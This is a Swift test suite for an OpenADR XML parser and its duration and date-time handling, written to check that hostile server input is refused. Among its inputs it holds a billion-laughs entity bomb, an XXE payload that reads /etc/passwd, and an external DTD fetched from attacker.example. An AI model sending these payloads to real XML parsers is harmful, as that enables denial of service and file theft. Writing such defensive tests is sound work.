import Foundation
import Testing

@testable import GridshellGrid

/// The XML reader against what a hostile or broken VTN can send.
@Suite("OpenADR XML reader")
struct OpenADRXMLTests {
    private func reason(_ text: String, limits: XMLLimits = .default) -> OpenADRMessageError.Reason? {
        reason(Array(text.utf8), limits: limits)
    }

    private func reason(_ bytes: [UInt8], limits: XMLLimits = .default) -> OpenADRMessageError.Reason? {
        do {
            _ = try XMLTreeParser.parse(bytes, limits: limits)
            return nil
        } catch {
            return error.reason
        }
    }

    @Test func readsNamespacesTextAndReferences() throws {
        let xml = """
            <?xml version="1.0" encoding="UTF-8"?>
            <!-- a comment --><?pi ignored?>
            <a:root xmlns:a="urn:a" xmlns="urn:default" x='1'>
              <child>x &amp; y &lt;z&gt; &#65;&#x42; <![CDATA[<raw>&amp;]]></child>
              <b:leaf xmlns:b="urn:b" b:attr="q &quot;v&quot;"/>
              <plain xmlns="">t</plain>
            </a:root>
            """
        let root = try XMLTreeParser.parse(Array(xml.utf8))
        #expect(root.namespace == "urn:a" && root.name == "root")
        #expect(root.attributes["x"] == "1")
        #expect(root.children.count == 3)
        #expect(root.children[0].namespace == "urn:default")
        #expect(root.children[0].text == "x & y <z> AB <raw>&amp;")
        #expect(root.children[1].namespace == "urn:b")
        #expect(root.children[1].attributes["b:attr"] == "q \"v\"")
        #expect(root.children[2].namespace == nil)
    }

    @Test func refusesDTDsWhateverTheyHold() {
        let billionLaughs = """
            <?xml version="1.0"?>
            <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
            <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
            <lolz>&lol3;</lolz>
            """
        let xxe = """
            <?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>
            """
        let external = #"<!DOCTYPE oadrPayload SYSTEM "http://attacker.example/evil.dtd"><oadrPayload/>"#
        #expect(reason(billionLaughs) == .doctypeForbidden)
        #expect(reason(xxe) == .doctypeForbidden)
        #expect(reason(external) == .doctypeForbidden)
        // A DTD after the root, or a declaration inside an element, is refused too.
        #expect(reason("<a/><!DOCTYPE a>") == .doctypeForbidden)
        #expect(reason("<a><!ENTITY x \"y\"></a>") == .doctypeForbidden)
    }

    @Test func refusesEntitiesThatWereNeverDeclared() {
        #expect(reason("<a>&xxe;</a>") == .undefinedEntity("xxe"))
        #expect(reason("<a b='&ext;'/>") == .undefinedEntity("ext"))
        #expect(reason("<a>&#0;</a>") == .malformed("'&#0;' is not a valid character reference"))
        #expect(reason("<a>&#xD800;</a>") == .malformed("'&#xD800;' is not a valid character reference"))
    }

    @Test func enforcesTheLimits() {
        let big = [UInt8](repeating: UInt8(ascii: " "), count: 4 << 20) + Array("<a/>".utf8)
        #expect(reason(big) == .tooLarge(limit: 4 << 20))
        let deep = String(repeating: "<a>", count: 10_000) + String(repeating: "</a>", count: 10_000)
        #expect(reason(deep) == .tooDeep(limit: 48))
        let wide = "<a>" + String(repeating: "<b/>", count: 1_001) + "</a>"
        #expect(reason(wide, limits: XMLLimits(maxElements: 1_000)) == .tooManyElements(limit: 1_000))
        let attributes = "<a " + (0..<40).map { "a\($0)='x'" }.joined(separator: " ") + "/>"
        #expect(reason(attributes) == .tooManyAttributes(limit: 32))
    }

    @Test func refusesWhatIsNotWellFormed() throws {
        #expect(reason("") == .empty)
        #expect(reason("   \n ") == .empty)
        #expect(reason([0xFF, 0xFE, 0x3C, 0x00]) == .notUTF8)
        #expect(reason(#"<?xml version="1.0" encoding="UTF-16"?><a/>"#) == .unsupportedEncoding("UTF-16"))
        #expect(reason("<a><b></a></b>") == .malformed("</a> closes <b>"))
        #expect(reason("<a>") == .malformed("<a> is never closed"))
        #expect(reason("<a/><b/>") == .malformed("content after the document element"))
        #expect(reason("text<a/>") == .malformed("text before the document element"))
        #expect(reason("<a x='1' x='2'/>") == .malformed("attribute x appears twice in <a>"))
        #expect(reason("<p:a/>") == .unboundPrefix("p"))
        #expect(reason("<a p:x='1'/>") == .unboundPrefix("p"))
        #expect(reason("<a>\u{1}</a>") == .malformed("control character 0x1 is not allowed in XML"))
        #expect(reason("<a x=1/>") == .malformed("attribute value without quotes"))
        #expect(reason("<a><!-- never ends </a>") == .malformed("unterminated comment"))
    }

    @Test func errorsNameTheLineAndColumn() {
        do {
            _ = try XMLTreeParser.parse(Array("<a>\n  <b>\n  </c>\n</a>".utf8))
            Issue.record("parsed a mismatched tag")
        } catch {
            #expect(error.location == "line 3, column 3")
            #expect(error.description.contains("line 3, column 3"))
        }
    }

    /// Every prefix of a real message, and seeded byte corruptions of it: the reader either reads
    /// it or says why, and never crashes or hangs.
    @Test func survivesTruncationAndCorruption() throws {
        let bytes = try OpenADRTestSupport.fixture("oadrDistributeEvent")
        var refused = 0
        for end in 0..<bytes.count {
            do { _ = try OpenADRMessage.decode(Array(bytes[0..<end])) } catch { refused += 1 }
        }
        // Only the whole document (and it minus trailing whitespace) is a message.
        #expect(refused >= bytes.count - 2)
        var generator = OpenADRTestSupport.SplitMix64(seed: 0x6F61_6472)
        var decoded = 0
        for _ in 0..<2_000 {
            var corrupted = bytes
            for _ in 0..<Int(generator.next() % 4 + 1) {
                let at = Int(generator.next() % UInt64(corrupted.count))
                corrupted[at] = UInt8(truncatingIfNeeded: generator.next())
            }
            if (try? OpenADRMessage.decode(corrupted)) != nil { decoded += 1 }
        }
        #expect(decoded < 2_000)
    }
}

/// Durations and date-times as OpenADR writes them.
@Suite("OpenADR time formats")
struct OpenADRTimeTests {
    @Test(arguments: [
        ("PT10M", 600.0), ("P1DT2H", 93_600), ("P2W", 1_209_600), ("-PT5S", -5), ("+PT1H30M", 5_400), ("PT0S", 0), ("PT0.5S", 0.5), ("P1D", 86_400),
        (" PT2S ", 2),
    ])
    func readsDurations(text: String, seconds: Double) {
        #expect(OpenADRTime.parseDuration(text) == seconds)
    }

    @Test(arguments: ["", "P", "PT", "10M", "P1Y", "P2M", "PT1H2H", "PT1M1H", "P1DT", "PTS", "P1.5D", "PT-1S", "PT1HX", "P1W1D", "PT1e3S", "PT١S"])
    func refusesBadDurations(text: String) {
        #expect(OpenADRTime.parseDuration(text) == nil)
    }

    @Test func writesDurationsTheSchemaAccepts() {
        #expect(OpenADRTime.formatDuration(0) == "PT0S")
        #expect(OpenADRTime.formatDuration(2) == "PT2S")
        #expect(OpenADRTime.formatDuration(600) == "PT10M")
        #expect(OpenADRTime.formatDuration(93_661) == "P1DT2H1M1S")
        #expect(OpenADRTime.formatDuration(86_400) == "P1D")
        #expect(OpenADRTime.formatDuration(-300) == "-PT5M")
        for seconds in stride(from: 0.0, through: 200_000, by: 997) {
            #expect(OpenADRTime.parseDuration(OpenADRTime.formatDuration(seconds)) == seconds)
        }
    }

    @Test func readsAndWritesDateTimes() throws {
        let date = try #require(OpenADRTime.parseDateTime("2026-11-21T22:50:05.258610Z"))
        #expect(abs(date.timeIntervalSince1970 - 1_795_301_405.258_61) < 1e-6)
        #expect(OpenADRTime.parseDateTime("2026-11-21T22:50:05") == OpenADRTime.parseDateTime("2026-11-21T22:50:05Z"))
        #expect(OpenADRTime.parseDateTime("2028-02-29T00:00:00Z") != nil)
        #expect(OpenADRTime.formatDateTime(date) == "2026-11-21T22:50:05.258610Z")
        #expect(OpenADRTime.formatDateTime(Date(timeIntervalSince1970: 0)) == "1970-01-01T00:00:00.000000Z")
        #expect(OpenADRTime.formatDateTime(Date(timeIntervalSince1970: -0.5)) == "1969-12-31T23:59:59.500000Z")
        for bad in ["2026-13-01T00:00:00Z", "2027-02-29T00:00:00Z", "2026-11-21 22:50:05Z", "2026-11-21T25:00:00Z", "2026-11-21T22:50:05+02:00", "tomorrow", "2026-11-21T22:50:05.Z"] {
            #expect(OpenADRTime.parseDateTime(bad) == nil, "accepted \(bad)")
        }
        var generator = OpenADRTestSupport.SplitMix64(seed: 7)
        for _ in 0..<500 {
            let seconds = Double(generator.next() % 4_000_000_000) + Double(generator.next() % 1_000_000) / 1_000_000
            let d = Date(timeIntervalSince1970: seconds)
            let text = OpenADRTime.formatDateTime(d)
            let back = try #require(OpenADRTime.parseDateTime(text))
            #expect(abs(back.timeIntervalSince1970 - seconds) < 1e-6)
            #expect(OpenADRTime.formatDateTime(back) == text)
        }
    }
}

extension OpenADRTestSupport {
    /// A small seeded generator, so corruption tests are the same on every run.
    struct SplitMix64 {
        private var state: UInt64
        init(seed: UInt64) { state = seed }
        mutating func next() -> UInt64 {
            state &+= 0x9E37_79B9_7F4A_7C15
            var z = state
            z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
            z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
            return z ^ (z >> 31)
        }
    }
}
